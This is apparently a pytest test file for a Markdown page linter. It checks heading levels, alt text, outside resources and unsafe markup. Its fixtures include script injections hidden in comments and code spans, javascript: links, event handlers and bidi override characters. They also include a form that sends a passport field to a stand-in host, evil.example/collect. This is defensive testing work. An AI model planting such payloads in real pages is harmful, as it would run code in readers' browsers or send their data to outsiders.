"""Each markup rule, tripped by a small page, reported as an exact `path:line` line."""

import pytest
from sites import lint, page

LEAK = ("would tell that website who reads this page; save the file in the site and use a "
        "relative path")


def test_a_clean_page_has_no_problems(tmp_path, monkeypatch):
    body = ("Intro.\n\n## Fees {#fees}\n\n### Who pays\n\n![Map of the offices](map.png)\n\n"
            '<img src="logo.png" alt="">\n\nSee [fees](#fees), [who pays](#who-pays) and '
            "[the law](https://example.org/law).\n\n    <script>alert(1)</script>\n\n"
            "Write `<iframe>` in code, or <!-- <script> --> in a comment.\n")
    assert lint(tmp_path, monkeypatch, {"index.md": page(body)}) == []


# --- headings -----------------------------------------------------------------------------

def test_h1_in_the_body_when_the_title_is_the_h1(tmp_path, monkeypatch):
    assert lint(tmp_path, monkeypatch, {"index.md": page("# Welcome\n\nText.\n")}) == [
        "index.md:6: error: heading '# Welcome': the front matter title is already this "
        "page's h1, and a page has only one; make it '## Welcome'"]


def test_second_h1_without_a_title(tmp_path, monkeypatch):
    text = "---\nreviewed: 2026-11-20\n---\n\n# One\n\nText.\n\nTwo\n===\n"
    assert lint(tmp_path, monkeypatch, {"index.md": text}) == [
        "index.md:9: error: heading '# Two': a page has only one h1; make it '## Two'"]


def test_skipped_heading_level(tmp_path, monkeypatch):
    body = "## Visas\n\n#### Fees\n\nText.\n\n## Work\n\n### Contracts\n"
    assert lint(tmp_path, monkeypatch, {"index.md": page(body)}) == [
        "index.md:8: error: heading '#### Fees' skips a level (h4 after h2); make it "
        "'### Fees'"]


def test_first_heading_must_be_h2(tmp_path, monkeypatch):
    assert lint(tmp_path, monkeypatch, {"index.md": page("Intro.\n\n### Fees\n")}) == [
        "index.md:8: error: heading '### Fees' skips a level (h3 after h1); make it '## Fees'"]


# --- images -------------------------------------------------------------------------------

def test_markdown_image_without_alt_text(tmp_path, monkeypatch):
    assert lint(tmp_path, monkeypatch, {"index.md": page("Look: ![](map.png)\n")}) == [
        "index.md:6: error: image without alt text: '![](map.png)'; say what it shows "
        "between the brackets, e.g. '![Map of the offices](map.png)'"]


def test_html_image_without_alt_attribute(tmp_path, monkeypatch):
    assert lint(tmp_path, monkeypatch, {"index.md": page('Text.\n\n<img src="map.png">\n')}) == [
        'index.md:8: error: image without alt text; say what it shows (alt="" only for '
        'decoration)']


# --- unsafe content -----------------------------------------------------------------------

@pytest.mark.parametrize("tag", ["iframe", "object", "embed"])
def test_tags_that_frame_other_documents(tmp_path, monkeypatch, tag):
    body = f"Text.\n\n<{tag} src=\"local.html\"></{tag}>\n"
    assert lint(tmp_path, monkeypatch, {"index.md": page(body)}) == [
        f"index.md:8: error: <{tag}> shows another document or runs a plug-in inside the page; "
        "link to it instead"]


SCRIPT = ("error: <script> is not allowed in a page: it runs code in every reader's browser; "
          "remove it")


@pytest.mark.parametrize("body, line", [
    ("Text.\n\n<script src=\"local.js\"></script>\n", 8),
    # Hidden from a scanner that reads comments and code spans as the old one did.
    ("Text <!-- a --!> <script>alert(1)</script> -->\n", 6),
    ("Text \\`<script>alert(1)</script>\\`\n", 6),
    ("Text.\n\n<SCRIPT >alert(1)</SCRIPT >\n", 8),
])
def test_scripts_however_they_are_hidden(tmp_path, monkeypatch, body, line):
    assert lint(tmp_path, monkeypatch, {"index.md": page(body)}) == [f"index.md:{line}: {SCRIPT}"]


def test_event_handler_attributes(tmp_path, monkeypatch):
    body = '<a href="a.md"\n   onClick="steal()">A</a>\n\nText\n{: onmouseover="x()" }\n'
    assert lint(tmp_path, monkeypatch, {"index.md": page(body)}) == [
        "index.md:6: error: <a onclick=...> runs code when the reader acts; remove the "
        "attribute",
        "index.md:10: error: <p onmouseover=...> runs code when the reader acts; remove the "
        "attribute",
    ]


def test_javascript_urls(tmp_path, monkeypatch):
    body = ("[Click](javascript:alert(1))\n\n<a href=\" JavaScript:go()\">Go</a>\n\n"
            "[Ref][ref]\n\n[ref]: java&#x09;script:void(0)\n")
    assert lint(tmp_path, monkeypatch, {"index.md": page(body)}) == [
        'index.md:6: error: <a href="javascript:alert(1)"> runs code; link to a page instead',
        'index.md:8: error: <a href="JavaScript:go()"> runs code; link to a page instead',
        'index.md:12: error: <a href="javascript:void(0)"> runs code; link to a page instead',
    ]


@pytest.mark.parametrize("html, message", [
    ('<meta http-equiv="refresh" content="0; url=https://evil.example/">',
     '<meta http-equiv="refresh"> sends the reader elsewhere or sets a cookie; remove it'),
    ('<base href="https://evil.example/">',
     "<base> changes where every link of the page points; remove it"),
    ('<form action="https://evil.example/collect"><input name="passport"></form>',
     '<form action="https://evil.example/collect"> sends what the reader types to another '
     "website; remove the form"),
    ('<svg><image href="https://evil.example/x.png"/></svg>',
     f"<image href> loads 'https://evil.example/x.png' from another website, which {LEAK}"),
])
def test_raw_html_that_sends_or_redirects(tmp_path, monkeypatch, html, message):
    found = lint(tmp_path, monkeypatch, {"index.md": page(f"Text.\n\n{html}\n")})
    assert f"index.md:8: error: {message}" in found


def test_elements_and_attributes_outside_the_allow_list(tmp_path, monkeypatch):
    body = ('<marquee>Hi</marquee>\n\n<p data-x="1" style="position: fixed">Fee</p>\n\n'
            "[Site](http://example.org/)\n\n"
            '<table><tr><td style="text-align: left; background: red">1</td></tr></table>\n')
    found = lint(tmp_path, monkeypatch, {"index.md": page(body)})
    assert found[0].startswith("index.md:6: error: <marquee> is not allowed in a page and is "
                               "removed; use Markdown, or one of: a, abbr")
    assert found[1:] == [
        "index.md:8: error: <p data-x=...> is not allowed and is removed; remove the attribute",
        "index.md:8: error: <p style=...> is not allowed and is removed; remove the attribute",
        "index.md:10: error: link 'http://example.org/' uses 'http:'; write https://",
        "index.md:12: error: <td style> sets 'background'; pages take their look from the "
        "site's style sheets: remove it",
    ]


def test_resources_from_other_websites(tmp_path, monkeypatch):
    body = ("![Map](https://maps.example/m.png)\n\n"
            '<video poster="//cdn.example/p.jpg" src="v.mp4"></video>\n\n'
            '<div style="background: url(\'https://img.example/bg.png\')">x</div>\n\n'
            "![Logo][logo]\n\n[logo]: https://img.example/logo.svg\n")
    found = lint(tmp_path, monkeypatch, {"index.md": page(body)})
    assert [f for f in found if "another website" in f] == [
        f"index.md:6: error: <img src> loads 'https://maps.example/m.png' from another "
        f"website, which {LEAK}",
        f"index.md:8: error: <video poster> loads '//cdn.example/p.jpg' from another website, "
        f"which {LEAK}",
        f"index.md:10: error: <div style> loads 'https://img.example/bg.png' from another "
        f"website, which {LEAK}",
        f"index.md:14: error: <img src> loads 'https://img.example/logo.svg' from another "
        f"website, which {LEAK}",
    ]


@pytest.mark.parametrize("char, name", [("\u202e", "RIGHT-TO-LEFT OVERRIDE"),
                                        ("\u202b", "RIGHT-TO-LEFT EMBEDDING")])
def test_bidi_overrides_in_a_page(tmp_path, monkeypatch, char, name):
    found = lint(tmp_path, monkeypatch, {"index.md": page(f"Text.\n\nThe fee is {char}57 EUR.\n")})
    assert found == [f"index.md:8: error: U+{ord(char):04X} {name} reorders the text after it "
                     "(a fee of 57 can be shown as 75); delete it (retype the text around it if "
                     "your editor does not show it); the site sets the text direction itself"]


def test_unclosed_isolate_in_a_title(tmp_path, monkeypatch):
    text = "---\ntitle: \"Hours \u2067 9:00–17:00\"\nreviewed: 2026-11-20\n---\n\nText.\n"
    found = lint(tmp_path, monkeypatch, {"index.md": text})
    assert len(found) == 1 and found[0].startswith(
        "index.md:2: error: U+2067 RIGHT-TO-LEFT ISOLATE is never closed")


def test_joiners_pass_in_prose(tmp_path, monkeypatch):
    body = "می\u200cخواهم کار کنم. \u2066+49 30 1234567\u2069\n"
    assert lint(tmp_path, monkeypatch, {"index.md": page(body)}) == []


def test_links_to_other_websites_are_fine(tmp_path, monkeypatch):
    body = "[Official site](https://example.org/) and <a href=\"https://example.org\">it</a>.\n"
    assert lint(tmp_path, monkeypatch, {"index.md": page(body)}) == []
